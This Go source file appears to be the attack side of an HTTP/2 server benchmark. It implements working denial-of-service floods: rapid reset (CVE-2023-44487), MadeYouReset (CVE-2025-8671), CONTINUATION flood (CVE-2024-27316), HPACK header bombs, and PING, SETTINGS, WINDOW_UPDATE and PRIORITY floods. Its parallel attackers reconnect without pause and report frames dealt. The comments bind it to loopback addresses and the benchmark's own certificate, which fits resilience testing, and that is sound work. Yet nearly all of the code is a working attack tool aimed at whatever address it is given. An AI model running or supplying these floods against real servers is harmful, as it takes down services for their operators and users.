//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

// attack is what an attacker does over a connection until it is cut.
type attack struct {
	name string
	step func(f *frames, i uint32) // writes a little more of it; nil: the TLS handshake is all
}

// attacks are in the order in which a target meets them: what makes it take
// memory, which it may keep, comes last.
var attacks = []attack{
	{"connect", nil},
	{"rapid_reset", func(f *frames, i uint32) { // CVE-2023-44487
		f.write(typeHeaders, endStream|endHeaders, 2*i+1, request)
		f.write(typeReset, 0, 2*i+1, []byte{0, 0, 0, 8}) // CANCEL
	}},
	{"made_you_reset", func(f *frames, i uint32) { // CVE-2025-8671
		f.write(typeHeaders, endStream|endHeaders, 2*i+1, request)
		f.write(typeWindowUpdate, 0, 2*i+1, []byte{0, 0, 0, 0}) // by 0: the server must reset the stream
	}},
	{"ping", func(f *frames, _ uint32) { f.write(typePing, 0, 0, make([]byte, 8)) }},
	{"settings", func(f *frames, _ uint32) { f.write(typeSettings, 0, 0, nil) }},
	{"window_update", func(f *frames, _ uint32) { f.write(typeWindowUpdate, 0, 0, []byte{0, 0, 0, 1}) }},
	{"priority", func(f *frames, i uint32) { f.write(typePriority, 0, 2*i+1, make([]byte, 5)) }},
	{"continuation", func(f *frames, i uint32) { // CVE-2024-27316
		if i == 0 {
			f.write(typeHeaders, 0, 1, request)
		}
		f.write(typeContinuation, 0, 1, endless)
	}},
	{"header_bomb", func(f *frames, i uint32) {
		block := bombs
		if i == 0 {
			block = firstBomb
		}
		f.write(typeHeaders, endStream|endHeaders, 2*i+1, block)
	}},
}

// The frames of HTTP/2 (RFC 9113, section 6) and their flags are written by
// hand: most of these are against the rules, and attackers must not need more
// CPU time than they have to.
const (
	typeHeaders      = 0x1
	typePriority     = 0x2
	typeReset        = 0x3
	typeSettings     = 0x4
	typePing         = 0x6
	typeGoAway       = 0x7
	typeWindowUpdate = 0x8
	typeContinuation = 0x9

	ack        = 0x1 // of SETTINGS
	endStream  = 0x1
	endHeaders = 0x4

	frameHead = 9       // bytes before a payload
	framePart = 1 << 14 // bytes of payload that every server takes
)

// Blocks of header fields (RFC 7541).
var (
	// request is GET /small: two fields by their index in the static table, two
	// by the index of their name.
	request = append(append([]byte{0x82, 0x87, 0x04, 6}, "/small\x01"...), append([]byte{byte(len(host))}, host...)...)
	// endless is a frame of fields that are in the static table.
	endless = bytes.Repeat([]byte{0x90}, framePart) // accept-encoding: gzip, deflate
	// bombs name the newest entry of the dynamic table again and again: 12 KB
	// that stand for 48 MB.
	bombs = append(bytes.Clone(request), bytes.Repeat([]byte{0xbe}, 12000)...)
	// firstBomb makes that entry first, the biggest that the table of 4096 bytes
	// takes: the field x, with 32 bytes counted for the entry itself.
	firstBomb = func() []byte {
		const value = 4096 - 32 - uint64(len("x"))
		entry := binary.AppendUvarint([]byte{0x40, 1, 'x', 0x7f}, value-0x7f)
		entry = append(entry, bytes.Repeat([]byte{'v'}, int(value))...)
		return append(append(bytes.Clone(request), entry...), bombs[len(request):]...)
	}()
)

// frames writes frames, and counts them, until the first error.
type frames struct {
	w     *bufio.Writer
	n     int64
	bytes int // since the last flush
	err   error
}

func (f *frames) write(kind, flags byte, stream uint32, payload []byte) {
	var head [frameHead]byte
	binary.BigEndian.PutUint32(head[:], uint32(len(payload))<<8|uint32(kind))
	head[4] = flags
	binary.BigEndian.PutUint32(head[5:], stream)
	f.n++
	f.bytes += len(head) + len(payload)
	_, _ = f.w.Write(head[:]) // the next call returns its error too
	_, f.err = f.w.Write(payload)
}

func (f *frames) flush() {
	f.bytes = 0
	f.err = f.w.Flush()
}

// begin writes what each connection must begin with.
func (f *frames) begin() {
	_, _ = f.w.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") // the next call returns its error too
	f.write(typeSettings, 0, 0, nil)
	f.write(typeSettings, ack, 0, nil)
}

// untilCut reads frames until the server wants no more of the connection. An
// attacker that went on after GOAWAY would lose time that it can spend on a new
// connection.
func untilCut(r io.Reader) {
	in := bufio.NewReaderSize(r, framePart)
	for {
		var head [frameHead]byte
		if _, err := io.ReadFull(in, head[:]); err != nil || head[3] == typeGoAway {
			return
		}
		if _, err := in.Discard(int(binary.BigEndian.Uint32(head[:]) >> 8)); err != nil {
			return
		}
	}
}

// dealt is what the attackers have done.
type dealt struct {
	Connections int64 `json:"connections"` // whose TLS handshake was completed
	Frames      int64 `json:"frames"`
	Micros      int64 `json:"duration_us"`
}

// The rates are 0 where there were no attackers.
func (d dealt) connections() float64 { return float64(d.Connections) * 1e6 / float64(max(d.Micros, 1)) }
func (d dealt) frames() float64      { return float64(d.Frames) * 1e6 / float64(max(d.Micros, 1)) }

const (
	// connectionLasts bounds a connection that a target neither reads nor cuts.
	connectionLasts = 20 * time.Second
	// burst is how many bytes an attacker writes before it looks whether it was
	// cut, and breath how long it looks. Go polls the network when nothing else
	// is to be done, so that one that only ever wrote would see it 10 ms late,
	// and then write what nobody reads instead of connecting again. Together
	// they allow 8 attackers 500 MB/s, which is more than their core can do.
	burst  = 64 << 10
	breath = time.Millisecond
	// mostSteps keeps the numbers of streams below 2^31.
	mostSteps = 1 << 30
)

// over makes one connection to an address, from that of an attacker, and attacks over
// it. It returns how many frames it has written, and an error if there was no
// connection.
func (a attack) over(ctx context.Context, attacker int, addr string) (int64, error) {
	ctx, cancel := context.WithTimeout(ctx, connectionLasts)
	defer cancel()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 1, byte(1+attacker))}}
	raw, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return 0, err
	}
	// It is closed below TLS, which would wait for room for its farewell.
	closeRaw := sync.OnceFunc(func() { _ = raw.Close() })
	defer closeRaw()
	defer context.AfterFunc(ctx, closeRaw)()
	c := tls.Client(raw, h2Client)
	if err := c.HandshakeContext(ctx); err != nil || a.step == nil {
		return 0, err
	}

	cut := make(chan struct{})
	go func() {
		defer close(cut)
		untilCut(c)
	}()
	f := frames{w: bufio.NewWriterSize(c, framePart)} // a write is a record of TLS
	f.begin()
attack:
	for i := uint32(0); f.err == nil && i < mostSteps; i++ {
		a.step(&f, i)
		if f.bytes < burst {
			continue
		}
		f.flush()
		select {
		case <-cut:
			break attack
		case <-time.After(breath):
		}
	}
	closeRaw()
	<-cut
	return f.n, nil
}

// h2Client agrees on HTTP/2. The certificate is the benchmark's own, for a name
// that nothing resolves.
var h2Client = &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13, ServerName: host, NextProtos: []string{"h2"}}

// attackCommand makes the benchmark a process of attackers, each of which makes
// a new connection as soon as its last is cut. When they are ended it prints
// what they have dealt.
const attackCommand = "attack"

func runAttack(args []string) error {
	f := flag.NewFlagSet(attackCommand, flag.ContinueOnError)
	addr := f.String("addr", "", "`address` to connect to")
	name := f.String("name", "", "which attack")
	n := f.Int("attackers", 0, "how many, each with an address of its own, up to 254")
	longest := f.Duration("longest", 0, "how long at most")
	if err := f.Parse(args); err != nil {
		return err
	}
	var a attack
	for _, known := range attacks {
		if known.name == *name {
			a = known
		}
	}
	if a.name == "" {
		return fmt.Errorf("attack %q is not known", *name)
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM)
	defer stop()
	ctx, cancel := context.WithTimeout(ctx, *longest)
	defer cancel()

	var connections, frames atomic.Int64
	var all sync.WaitGroup
	began := time.Now()
	for i := range *n {
		all.Go(func() {
			for ctx.Err() == nil {
				written, err := a.over(ctx, i, *addr)
				if err != nil {
					// Asking again at once would only cost the attackers' core.
					select {
					case <-time.After(time.Millisecond):
					case <-ctx.Done():
					}
					continue
				}
				connections.Add(1)
				frames.Add(written)
			}
		})
	}
	all.Wait()
	return json.NewEncoder(os.Stdout).Encode(dealt{
		Connections: connections.Load(), Frames: frames.Load(), Micros: time.Since(began).Microseconds(),
	})
}
